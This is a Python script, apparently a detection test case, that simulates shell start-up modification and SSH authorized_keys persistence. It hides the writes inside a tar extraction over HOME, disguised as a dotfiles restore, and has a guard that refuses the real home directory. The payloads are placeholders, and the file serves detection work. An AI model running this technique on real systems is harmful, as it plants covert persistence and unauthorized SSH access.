# technique: T1546.004 T1098.004
"""Unix Shell Configuration Modification (T1546.004) and SSH Authorized
Keys (T1098.004) delivered as an archive: a tar built in memory holding
.bashrc and .ssh/authorized_keys is extracted over HOME with
tarfile.extractall.

No write names a start-up file in the script's own code: tarfile opens
each member's destination while extracting ("a dotfiles backup restore").

A good detector raises a high alert: an archive extraction writes a shell
start-up file and an authorized_keys file in HOME.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import io
import os
import tarfile

members = {
    ".bashrc": b"# restored\nalias ls='ls --color'\n(python3 -c 'import os' &)\n",
    ".ssh/authorized_keys": b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABtarkey backup@restore\n",
}
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for name, data in members.items():
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mode = 0o600
        tar.addfile(info, io.BytesIO(data))
buf.seek(0)
with tarfile.open(fileobj=buf, mode="r:gz") as tar:
    tar.extractall(os.path.expanduser("~"))
